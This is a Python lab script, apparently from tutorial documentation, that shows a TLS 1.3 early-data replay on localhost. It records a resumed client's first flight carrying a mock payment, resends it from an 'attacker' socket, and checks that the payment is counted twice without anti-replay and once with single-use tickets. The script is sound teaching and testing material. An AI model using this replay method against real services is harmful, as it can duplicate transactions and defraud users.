# timeout: 60
"""TLS 1.3 early data, recorded on the wire and sent a second time by somebody else."""

import shutil
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

if not shutil.which("openssl"):
    sys.exit("this lab needs the openssl command, 1.1.1 or newer")


def openssl(*arguments: str, stdin: str | None = "") -> str:
    done = subprocess.run(["openssl", *arguments], input=stdin, text=True,
                          capture_output=True, timeout=20)  # fmt: skip
    return done.stdout + done.stderr


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as probe:
        return probe.getsockname()[1]


def wait_for(port: int) -> None:
    for _ in range(200):
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.02)
    sys.exit("openssl s_server did not start")


def first_flight(client: socket.socket) -> bytes:
    """Read TLS records until the early data, the first of type 23, is complete."""
    flight, at = b"", 0
    while more := client.recv(65536):
        flight += more
        while (end := at + 5 + int.from_bytes(flight[at + 3 : at + 5])) <= len(flight):
            if flight[at] == 23:
                return flight
            at = end
    return flight


def recording_proxy(upstream: int, seen: list[bytes]) -> int:
    """Pass one connection on, and keep what the client sent before any answer."""
    listener = socket.create_server(("127.0.0.1", 0))

    def copy(source: socket.socket, sink: socket.socket) -> None:
        try:
            while data := source.recv(65536):
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            pass

    def run() -> None:
        client, _ = listener.accept()
        seen.append(first_flight(client))
        server = socket.create_connection(("127.0.0.1", upstream))
        server.sendall(seen[0])
        threading.Thread(target=copy, args=(server, client), daemon=True).start()
        copy(client, server)

    threading.Thread(target=run, daemon=True).start()
    return listener.getsockname()[1]


def payments(*options: str) -> int:
    """How often a server reads one payment that was recorded and sent again."""
    port, log = free_port(), Path("server.log")
    with log.open("w") as output:
        server = subprocess.Popen(
            ["openssl", "s_server", "-accept", f"127.0.0.1:{port}", "-cert", "s.crt",
             "-key", "s.key", "-tls1_3", "-early_data", *options],
            stdin=subprocess.PIPE, stdout=output, stderr=output)  # fmt: skip
    try:
        # --8<-- [start:replay]
        wait_for(port)
        client = ["s_client", "-tls1_3", "-connect"]
        first = subprocess.Popen(
            ["openssl", *client, f"127.0.0.1:{port}", "-sess_out", "ticket"],
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while not Path("ticket").exists() or "END" not in Path("ticket").read_text():
            time.sleep(0.02)
        first.communicate()  # a clean end, or the server forgets the session

        seen: list[bytes] = []
        proxy = recording_proxy(port, seen)
        resumed = subprocess.Popen(
            ["openssl", *client, f"127.0.0.1:{proxy}", "-sess_in", "ticket",
             "-early_data", "payment.txt"],  # (1)!
            stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        while log.read_text().count("POST /pay") < 1:
            time.sleep(0.02)
        resumed.communicate()

        with socket.create_connection(("127.0.0.1", port)) as attacker:
            attacker.sendall(seen[0])  # (2)!
            attacker.shutdown(socket.SHUT_WR)
            while attacker.recv(65536):
                pass  # until the server is done with it
        # --8<-- [end:replay]
        return log.read_text().count("POST /pay")
    finally:
        server.kill()
        Path("ticket").unlink(missing_ok=True)


openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
        "-nodes", "-keyout", "s.key", "-out", "s.crt", "-subj", "/CN=shop")  # fmt: skip
Path("payment.txt").write_text("POST /pay 100 EUR\n")
unguarded, guarded = payments("-no_anti_replay"), payments()
print(f"read without protection: {unguarded} times")
print(f"read with single-use tickets: {guarded} time")
assert (unguarded, guarded) == (2, 1)
